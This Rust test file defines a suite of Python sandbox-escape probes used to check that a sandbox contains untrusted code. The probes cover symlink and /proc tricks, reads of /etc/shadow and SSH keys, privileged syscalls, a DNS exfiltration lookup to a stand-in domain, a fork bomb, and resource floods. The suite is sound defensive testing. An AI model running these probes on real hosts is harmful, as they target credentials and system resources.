//! The escape suite's attacks, shared by the process tiers (`tests/tests/escape.rs`)
//! and the microVM (`tests/tests/microvm.rs`).
//!
//! Every attack is a Python program. It first prints `MARKER-RAN` (proof that the sandbox
//! ran it), then tries its escape and prints `ESCAPED: ...` when the escape worked or
//! `CONTAINED: ...` when it did not. SECURITY.md lists the attacks.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::Write;
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::path::PathBuf;
use std::process::Output;

use crate::{mxc_vm, pids_with, TempDir};

/// Helpers every attack program starts with.
pub const PRELUDE: &str = r#"
import ctypes, errno, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
print("MARKER-RAN", flush=True)
E = os.environ
SECRET = E["SECRET"].encode()
def escaped(m): print("ESCAPED:", m, flush=True)
def contained(m): print("CONTAINED:", m, flush=True)
def sc(nr, *a):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) for x in a])
    return r, ctypes.get_errno()
def refused(name, nr, *a):
    r, e = sc(nr, *a)
    if r == -1: contained(f"{name}: {errno.errorcode.get(e, e)}")
    else: escaped(f"{name} returned {r}")
def unreadable(path):
    try:
        with open(path, "rb") as f: data = f.read(4096)
    except OSError as e:
        return contained(f"{path}: {e.strerror}")
    if SECRET in data: escaped(f"read the secret through {path}")
    else: contained(f"{path} opened but holds no secret")
def no_connect(family, addr, what):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
    except OSError as e:
        return contained(f"{what}: {e.strerror or e}")
    escaped(f"connected to {what}")
"#;

/// A check on the host after an attack's run.
pub type HostCheck = fn(&Ctx, &[u8]) -> Result<(), String>;

/// One attack.
#[derive(Debug)]
pub struct Attack {
    pub name: &'static str,
    /// The program after [`PRELUDE`].
    pub code: &'static str,
    /// Extra `mxc-vm run` flags.
    pub flags: &'static [&'static str],
    /// The sandbox kills the program (no CONTAINED line is needed).
    pub killed: bool,
    /// A check on the host after the run.
    pub host_check: Option<HostCheck>,
}

const fn attack(name: &'static str, code: &'static str) -> Attack {
    Attack {
        name,
        code,
        flags: &[],
        killed: false,
        host_check: None,
    }
}

/// The host side of the attacks: a read-write grant W holding denied secrets, a read-only
/// grant R with one, a directory H that is not granted at all, a loopback listener and
/// an abstract Unix socket of the host's.
#[derive(Debug)]
pub struct Ctx {
    pub dir: TempDir,
    pub secret: String,
    port: u16,
    abstract_name: String,
    _listener: TcpListener,
    _unix: UnixListener,
}

impl Ctx {
    pub fn new(backend: &str) -> Self {
        let dir = TempDir::new("escape");
        let secret = format!("HOST-SECRET-{}", std::process::id());
        for d in ["W/d", "R", "H"] {
            std::fs::create_dir_all(dir.join(d)).unwrap();
        }
        for f in [
            "W/secret.txt",
            "W/d/deep-secret",
            "H/outside.txt",
            "R/ro-secret",
        ] {
            std::fs::write(dir.join(f), &secret).unwrap();
        }
        std::fs::write(dir.join("W/ok.txt"), b"fine").unwrap();
        std::fs::write(dir.join("R/readme"), b"read only").unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let abstract_name = format!("mxc-escape-{}-{backend}", std::process::id());
        let unix = {
            use std::os::linux::net::SocketAddrExt;
            let addr = std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes())
                .unwrap();
            UnixListener::bind_addr(&addr).unwrap()
        };
        Self {
            dir,
            secret,
            port,
            abstract_name,
            _listener: listener,
            _unix: unix,
        }
    }

    fn policy(&self) -> String {
        let path = self.dir.join("policy.json");
        let text = r#"{"version":"1","limits":{"pids":64,"memoryMiB":256,"outputBytes":65536}}"#;
        std::fs::File::create(&path)
            .unwrap()
            .write_all(text.as_bytes())
            .unwrap();
        path.display().to_string()
    }

    pub fn run(&self, backend: &str, a: &Attack) -> Output {
        let policy = self.policy();
        let env = [
            format!("SECRET={}", self.secret),
            format!("W={}", self.dir.s("W")),
            format!("R={}", self.dir.s("R")),
            format!("H={}", self.dir.s("H")),
            format!("HOST_PID={}", std::process::id()),
            format!("PORT={}", self.port),
            format!("ABSTRACT={}", self.abstract_name),
        ];
        let (w, r) = (self.dir.s("W"), self.dir.s("R"));
        let (deny, deny_deep) = (self.dir.s("W/secret.txt"), self.dir.s("W/d/deep-secret"));
        let deny_ro = self.dir.s("R/ro-secret");
        let mut args = vec![
            "run",
            "--backend",
            backend,
            "--policy",
            &policy,
            "--rw",
            &w,
            "--ro",
            &r,
            "--deny",
            &deny,
            "--deny",
            &deny_deep,
            "--deny",
            &deny_ro,
            "--cwd",
            &w,
        ];
        for e in &env {
            args.extend(["-e", e]);
        }
        args.extend(a.flags.iter().copied());
        let program = format!("{PRELUDE}\n{}", a.code);
        args.extend(["--", "python3", "-c", &program]);
        mxc_vm(&args)
    }
}

/// The host's hostname, unchanged by anything a sandbox does.
fn hostname_unchanged(_: &Ctx, _: &[u8]) -> Result<(), String> {
    let now = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default();
    if now.trim() == "mxc-escaped" {
        return Err("the host's hostname changed".into());
    }
    Ok(())
}

fn no_process_left(marker: &'static str) -> impl Fn() -> Result<(), String> {
    move || {
        std::thread::sleep(std::time::Duration::from_millis(300));
        let left = pids_with(marker);
        if left.is_empty() {
            Ok(())
        } else {
            Err(format!("processes left behind: {left:?}"))
        }
    }
}

fn no_sleeper_left(_: &Ctx, _: &[u8]) -> Result<(), String> {
    no_process_left("31.4159")()
}

fn no_bomb_left(_: &Ctx, _: &[u8]) -> Result<(), String> {
    no_process_left("forkbomb-3.1")()
}

fn output_was_cut(_: &Ctx, stdout: &[u8]) -> Result<(), String> {
    if stdout.len() > 70_000 {
        return Err(format!(
            "{} bytes of output passed a 64 KiB limit",
            stdout.len()
        ));
    }
    Ok(())
}

fn denied_file_intact(ctx: &Ctx, _: &[u8]) -> Result<(), String> {
    for f in ["W/secret.txt", "W/d/deep-secret"] {
        match std::fs::read_to_string(ctx.dir.join(f)) {
            Ok(s) if s == ctx.secret => {}
            other => return Err(format!("{f} was changed or moved on the host: {other:?}")),
        }
    }
    Ok(())
}

/// The attacks. Syscall numbers are x86-64's.
pub fn attacks() -> Vec<Attack> {
    vec![
        // --- files ---
        attack("read a denied file", "unreadable(E['W'] + '/secret.txt')"),
        attack("read a denied file in a subdirectory", "unreadable(E['W'] + '/d/deep-secret')"),
        attack("read a denied file in a read-only grant", "unreadable(E['R'] + '/ro-secret')"),
        attack("read an ungranted host file", "unreadable(E['H'] + '/outside.txt')"),
        attack("dot-dot out of a grant", "unreadable(E['W'] + '/../H/outside.txt')"),
        attack(
            "absolute symlink to an ungranted file",
            "p = E['W'] + '/abs-link'\n\
             os.symlink(E['H'] + '/outside.txt', p)\n\
             unreadable(p)\nos.unlink(p)",
        ),
        attack(
            "relative symlink out of a grant",
            "p = E['W'] + '/rel-link'\n\
             os.symlink('../H/outside.txt', p)\n\
             unreadable(p)\nos.unlink(p)",
        ),
        attack(
            "symlink to a denied file",
            "p = E['W'] + '/to-secret'\n\
             os.symlink('secret.txt', p)\n\
             unreadable(p)\nos.unlink(p)",
        ),
        attack(
            "hard link to a denied file",
            "p = E['W'] + '/hl'\n\
             try:\n    os.link(E['W'] + '/secret.txt', p)\n\
             except OSError as e:\n    contained(f'link: {e.strerror}')\n\
             else:\n    unreadable(p); os.unlink(p)",
        ),
        attack("through /proc/self/root", "unreadable('/proc/self/root' + E['H'] + '/outside.txt')"),
        attack("through /proc/1/root", "unreadable('/proc/1/root' + E['H'] + '/outside.txt')"),
        attack(
            "the host's /proc/<pid>",
            "p = '/proc/' + E['HOST_PID'] + '/environ'\n\
             try:\n    data = open(p, 'rb').read()\n\
             except OSError as e:\n    contained(f'{p}: {e.strerror}')\n\
             else:\n    (escaped if b'CARGO' in data else contained)(f'{p} read')",
        ),
        attack(
            "write into a read-only grant",
            "try:\n    open(E['R'] + '/readme', 'w').write('x')\n\
             except OSError as e:\n    contained(e.strerror)\n\
             else:\n    escaped('wrote into R')",
        ),
        Attack {
            host_check: Some(denied_file_intact),
            ..attack(
                "move a denied path out from under its rule",
                "for src, dst in [('d', 'd2'), ('secret.txt', 'moved'), ('d/deep-secret', 'm2')]:\n\
                 \x20   try:\n        os.rename(E['W'] + '/' + src, E['W'] + '/' + dst)\n\
                 \x20   except OSError as e:\n        contained(f'rename {src}: {e.strerror}')\n\
                 \x20   else:\n        escaped(f'renamed {src}')",
            )
        },
        attack(
            "set-user-ID bit on a file in a grant",
            "p = E['W'] + '/suid'\nopen(p, 'w').close()\n\
             try:\n    os.chmod(p, 0o4755)\nexcept OSError as e:\n    pass\n\
             m = os.stat(p).st_mode\n(escaped if m & 0o4000 else contained)(oct(m))\nos.unlink(p)",
        ),
        attack(
            "a file created set-user-ID",
            "p = E['W'] + '/suid-created'\n\
             try:\n    os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o6755))\n\
             except OSError as e:\n    contained(e.strerror)\n\
             else:\n\
             \x20   m = os.stat(p).st_mode\n\
             \x20   (escaped if m & 0o6000 else contained)(oct(m)); os.unlink(p)",
        ),
        attack(
            "file capabilities on a file in a grant",
            "p = E['W'] + '/capped'\nopen(p, 'w').close()\n\
             cap = bytes.fromhex('0000000300000000000000000000000000000000')\n\
             try:\n    os.setxattr(p, 'security.capability', cap)\n\
             except OSError as e:\n    contained(e.strerror)\n\
             else:\n    escaped('set security.capability')\n\
             os.unlink(p)",
        ),
        attack(
            "create a device node",
            "try:\n    os.mknod(E['W'] + '/dev', 0o20666, os.makedev(1, 1))\n\
             except OSError as e:\n    contained(e.strerror)\n\
             else:\n    escaped('made /dev/mem in W')",
        ),
        attack(
            "open /dev/kvm, /dev/mem and a disk",
            "for p in ['/dev/kvm', '/dev/mem', '/dev/sda', '/dev/vda', '/dev/nvme0n1']:\n\
             \x20   try:\n        open(p, 'rb').close()\n\
             \x20   except OSError as e:\n        contained(f'{p}: {e.strerror}')\n\
             \x20   else:\n        escaped(f'opened {p}')",
        ),
        attack(
            "host secrets in /etc and home",
            "for p in ['/etc/shadow', '/etc/ssl/private', '/root/.ssh/id_rsa', '/etc/sudoers']:\n\
             \x20   try:\n        open(p, 'rb').read(1)\n\
             \x20   except OSError as e:\n        contained(f'{p}: {e.strerror}')\n\
             \x20   else:\n        escaped(f'read {p}')",
        ),
        attack(
            "write a host-wide sysctl",
            "p = '/proc/sys/kernel/printk_ratelimit'\n\
             old = open(p).read()\n\
             try:\n    f = open(p, 'w'); f.write(old); f.close()\n\
             except OSError as e:\n    contained(f'{p}: {e.strerror}')\n\
             else:\n    escaped(f'wrote {p}, a setting of the whole host')",
        ),
        Attack {
            host_check: Some(hostname_unchanged),
            ..attack(
                "sethostname reaches the host",
                "r = libc.sethostname(b'mxc-escaped', 11)\n\
                 contained(f'sethostname -> {r} (the sandbox has its own UTS namespace)')",
            )
        },
        attack(
            "host environment variables",
            "leaks = [k for k in E if k.startswith('CARGO') or k == 'MXC_ESCAPE_HOST_ONLY']\n\
             (escaped if leaks else contained)(f'host variables: {leaks}')",
        ),
        // --- system calls and kernel interfaces ---
        attack("ptrace another process", "refused('ptrace attach', 101, 16, 1, 0, 0)"),
        attack("process_vm_readv", "refused('process_vm_readv', 310, 1, 0, 0, 0, 0, 0)"),
        attack("nested user namespace", "refused('unshare(CLONE_NEWUSER)', 272, 0x10000000)"),
        attack("new mount namespace", "refused('unshare(CLONE_NEWNS)', 272, 0x20000)"),
        attack("mount", "refused('mount', 165, 0, 0, 0, 0, 0)"),
        attack("chroot", "refused('chroot', 161, 0)"),
        attack("pivot_root", "refused('pivot_root', 155, 0, 0)"),
        attack("setns", "refused('setns', 308, 0, 0)"),
        attack("keyctl", "refused('keyctl', 250, 0, 0, 0, 0)"),
        attack("perf_event_open", "refused('perf_event_open', 298, 0, 0, -1, -1, 0)"),
        attack("bpf", "refused('bpf', 321, 0, 0, 0)"),
        attack("io_uring", "refused('io_uring_setup', 425, 8, 0)"),
        attack("userfaultfd", "refused('userfaultfd', 323, 0)"),
        attack("open_by_handle_at (shocker)", "refused('open_by_handle_at', 304, 3, 0, 0)"),
        attack("kernel modules", "refused('init_module', 175, 0, 0, 0)"),
        attack("kexec", "refused('kexec_load', 246, 0, 0, 0, 0)"),
        attack(
            "x32 system call numbers",
            "refused('x32 unshare', 0x40000000 | 272, 0x10000000)\n\
             refused('x32 ptrace', 0x40000000 | 521, 0, 0, 0, 0)",
        ),
        attack(
            "TIOCSTI and TIOCLINUX",
            "for name, req in [('TIOCSTI', 0x5412), ('TIOCLINUX', 0x541C)]:\n\
             \x20   r, e = sc(16, 0, req, 0)\n\
             \x20   (contained if e == errno.EPERM else escaped)(f'{name}: {errno.errorcode.get(e, e)}')",
        ),
        // --- network ---
        attack(
            "AF_VSOCK",
            "try:\n    socket.socket(40, socket.SOCK_STREAM)\n\
             except OSError as e:\n    contained(e.strerror)\nelse:\n    escaped('vsock socket')",
        ),
        attack(
            "raw sockets reach the host's network",
            "try:\n    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n\
             \x20   s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('192.0.2.1', 0))\n\
             except OSError as e:\n    contained(e.strerror)\nelse:\n    escaped('sent a raw packet')",
        ),
        attack(
            "netlink sees the host's interfaces",
            "names = [n for _, n in socket.if_nameindex()]\n\
             (contained if names == ['lo'] else escaped)(f'interfaces: {names}')",
        ),
        attack(
            "a host loopback service",
            "no_connect(socket.AF_INET, ('127.0.0.1', int(E['PORT'])), 'the host loopback listener')",
        ),
        attack(
            "a host abstract Unix socket",
            "no_connect(socket.AF_UNIX, '\\0' + E['ABSTRACT'], 'the host abstract socket')",
        ),
        attack(
            "a direct connection to an outside address",
            "no_connect(socket.AF_INET, ('192.0.2.1', 80), '192.0.2.1:80')",
        ),
        attack(
            "DNS exfiltration",
            "try:\n    socket.getaddrinfo('secret-data.exfil.example.com', 53)\n\
             except OSError as e:\n    contained(f'no resolution: {e}')\n\
             else:\n    escaped('a name resolved')",
        ),
        // --- resources and lifetime ---
        Attack {
            killed: true,
            host_check: Some(no_bomb_left),
            ..attack(
                "fork bomb",
                "import subprocess\n\
                 n = 0\n\
                 for i in range(500):\n\
                 \x20   try:\n        subprocess.Popen(['sh', '-c', 'sleep 30', 'forkbomb-3.1'])\n        n += 1\n\
                 \x20   except OSError:\n        break\n\
                 (escaped if n >= 64 else contained)(f'{n} processes started with pids: 64')",
            )
        },
        Attack {
            killed: true,
            ..attack(
                "memory flood",
                "blocks = []\n\
                 try:\n\
                 \x20   for i in range(64):\n        blocks.append(bytearray(16 << 20))\n\
                 except MemoryError:\n    contained('MemoryError before 1 GiB with a 256 MiB limit')\n\
                 else:\n    escaped('allocated 1 GiB with a 256 MiB limit')",
            )
        },
        attack(
                "a RAM disk flood through /tmp",
                "n = 0\n\
                 try:\n\
                 \x20   with open('/tmp/flood', 'wb') as f:\n\
                 \x20       for i in range(64):\n            f.write(bytes(16 << 20)); f.flush(); n += 16\n\
                 except OSError as e:\n    contained(f'{e.strerror} after {n} MiB')\n\
                 else:\n    escaped('1 GiB written to /tmp with a 256 MiB limit')",
            ),
        Attack {
            killed: true,
            host_check: Some(output_was_cut),
            ..attack(
                "output flood",
                "sys.stdout.write('x' * (8 << 20)); sys.stdout.flush()\ncontained('written')",
            )
        },
        Attack {
            flags: &["--timeout", "2s"],
            killed: true,
            host_check: Some(no_sleeper_left),
            ..attack(
                "children outliving a timeout",
                "import subprocess\n\
                 subprocess.Popen(['sh', '-c', '(sleep 31.4159 &); sleep 31.4159'], start_new_session=True)\n\
                 time.sleep(60)",
            )
        },
    ]
}

impl Ctx {
    /// The environment every attack gets.
    pub fn env(&self) -> Vec<(String, String)> {
        [
            ("SECRET", self.secret.clone()),
            ("W", self.dir.s("W")),
            ("R", self.dir.s("R")),
            ("H", self.dir.s("H")),
            ("HOST_PID", std::process::id().to_string()),
            ("PORT", self.port.to_string()),
            ("ABSTRACT", self.abstract_name.clone()),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v))
        .collect()
    }

    /// The grants: (read-only, read-write, denied).
    pub fn grants(&self) -> (Vec<PathBuf>, Vec<PathBuf>, Vec<PathBuf>) {
        (
            vec![self.dir.join("R")],
            vec![self.dir.join("W")],
            ["W/secret.txt", "W/d/deep-secret", "R/ro-secret"]
                .iter()
                .map(|p| self.dir.join(p))
                .collect(),
        )
    }
}

/// The attacks that apply to the microVM, whose boundary is the VM: the guest's own
/// kernel answers system calls, so those attacks (and the guest's own resource limits)
/// test the guest, not the host. These reach for host files and the host's network.
pub const MICROVM_ATTACKS: &[&str] = &[
    "read a denied file",
    "read a denied file in a subdirectory",
    "read a denied file in a read-only grant",
    "read an ungranted host file",
    "dot-dot out of a grant",
    "absolute symlink to an ungranted file",
    "relative symlink out of a grant",
    "symlink to a denied file",
    "hard link to a denied file",
    "through /proc/self/root",
    "through /proc/1/root",
    "the host's /proc/<pid>",
    "write into a read-only grant",
    "move a denied path out from under its rule",
    "set-user-ID bit on a file in a grant",
    "a file created set-user-ID",
    "file capabilities on a file in a grant",
    "host secrets in /etc and home",
    "host environment variables",
    "a host loopback service",
    "a host abstract Unix socket",
    "a direct connection to an outside address",
    "DNS exfiltration",
];

/// The verdict on one attack's run: `Err` says how it got out.
pub fn judge(ctx: &Ctx, a: &Attack, stdout: &[u8]) -> Result<(), String> {
    let text = String::from_utf8_lossy(stdout);
    if !text.contains("MARKER-RAN") {
        Err("the sandbox never ran the attack".to_string())
    } else if let Some(line) = text.lines().find(|l| l.starts_with("ESCAPED")) {
        Err(line.to_string())
    } else if !a.killed && !text.contains("CONTAINED") {
        Err("no CONTAINED line".to_string())
    } else {
        a.host_check.map_or(Ok(()), |check| check(ctx, stdout))
    }
}

/// The first CONTAINED or ESCAPED lines of a run, for the report.
pub fn shown(stdout: &[u8]) -> String {
    String::from_utf8_lossy(stdout)
        .lines()
        .filter(|l| l.starts_with("CONTAINED") || l.starts_with("ESCAPED"))
        .take(3)
        .collect::<Vec<_>>()
        .join(" | ")
}
